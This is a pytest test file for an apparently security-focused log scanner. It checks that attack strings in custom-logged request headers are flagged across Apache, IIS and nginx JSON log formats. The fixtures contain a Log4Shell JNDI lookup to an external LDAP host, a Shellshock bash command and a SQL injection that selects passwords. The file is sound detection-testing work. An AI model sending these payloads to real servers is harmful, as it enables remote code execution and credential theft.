"""Request headers a format logs beyond Referer, User-Agent and Cookie are read by the rules as
the field ``headers``: ``%{Name}i``, IIS ``cs(Name)``, nginx JSON ``http_name`` keys, and the
text a line carries after its format. Log4Shell's classic route is such a header
(``X-Api-Version``), and a payload there must not go unread."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from lwsyslog.cli.main import main

CUSTOM = '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-agent}i" "%{Host}i" "%{X-Api-Version}i"'
STAMP = "[23/Nov/2026:14:00:00 +0000]"
JNDI = "${jndi:ldap://198.51.100.1/a}"


def _findings(
    capsys: pytest.CaptureFixture[str], path: Path, *args: str
) -> dict[str, list[tuple[str, str]]]:
    """Client address -> (rule, field) of every match of every finding."""
    assert main(["scan", "--json", *args, str(path)]) == 0
    found: dict[str, list[tuple[str, str]]] = {}
    for line in capsys.readouterr().out.splitlines():
        record = json.loads(line)
        if record["kind"] == "finding":
            matches = found.setdefault(str(record["client_ip"]), [])
            matches += [(str(m["rule"]), str(m["field"])) for m in record["matches"]]
    return found


def test_a_payload_in_a_custom_logged_header_is_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "access.log"
    log.write_text(
        f'203.0.113.5 - - {STAMP} "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "www.example.org"'
        f' "{JNDI}"\n'
        f'203.0.113.6 - - {STAMP} "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0"'
        ' "() { :; }; /bin/bash -c id" "-"\n'
        f'203.0.113.7 - - {STAMP} "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" "www.example.org"'
        ' "2.1"\n'
    )
    found = _findings(capsys, log, "--format", CUSTOM)
    assert ("log4shell-jndi", "headers") in found["203.0.113.5"]
    assert ("shellshock-function-def", "headers") in found["203.0.113.6"]
    assert "203.0.113.7" not in found  # an ordinary Host and version: nothing


def test_a_payload_after_the_format_is_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A combined line with fields appended (%D, a header): the surplus is read, not dropped.
    log = tmp_path / "access.log"
    log.write_text(
        f'203.0.113.5 - - {STAMP} "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" 1234 "{JNDI}"\n'
        f'203.0.113.7 - - {STAMP} "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0" 1234 "en-GB"\n'
    )
    found = _findings(capsys, log)
    assert ("log4shell-jndi", "headers") in found["203.0.113.5"]
    assert "203.0.113.7" not in found


def test_a_payload_in_an_iis_client_header_is_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "u_ex261123.log"
    log.write_text(
        "#Software: Microsoft Internet Information Services 10.0\n"
        "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)"
        " cs(X-Forwarded-For) cs(X-Api-Version)\n"
        "2026-11-23 14:00:00 203.0.113.5 GET /Default.aspx - 200 Mozilla/5.0 - "
        "${jndi:ldap://198.51.100.1/a}\n"
        "2026-11-23 14:00:01 203.0.113.6 GET /Default.aspx - 200 Mozilla/5.0 "
        "1'+UNION+SELECT+password+FROM+users-- -\n"
        "2026-11-23 14:00:02 203.0.113.7 GET /Default.aspx - 200 Mozilla/5.0 "
        "198.51.100.20,+10.0.0.2 1.0\n"
    )
    found = _findings(capsys, log, "--log", "access", "--format", "iis")
    assert ("log4shell-jndi", "headers") in found["203.0.113.5"]
    assert any(field == "headers" and "sqli" in rule for rule, field in found["203.0.113.6"])
    assert "203.0.113.7" not in found


def test_a_payload_in_an_nginx_json_header_variable_is_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def line(client: str, version: str) -> str:
        return json.dumps(
            {
                "remote_addr": client,
                "time_iso8601": "2026-11-23T14:00:00+00:00",
                "request": "GET / HTTP/1.1",
                "status": "200",
                "http_user_agent": "Mozilla/5.0",
                "http_x_api_version": version,
            }
        )

    log = tmp_path / "access.json.log"
    log.write_text(line("203.0.113.5", JNDI) + "\n" + line("203.0.113.7", "2.1") + "\n")
    found = _findings(capsys, log, "--format", "json")
    assert ("log4shell-jndi", "headers") in found["203.0.113.5"]
    assert "203.0.113.7" not in found
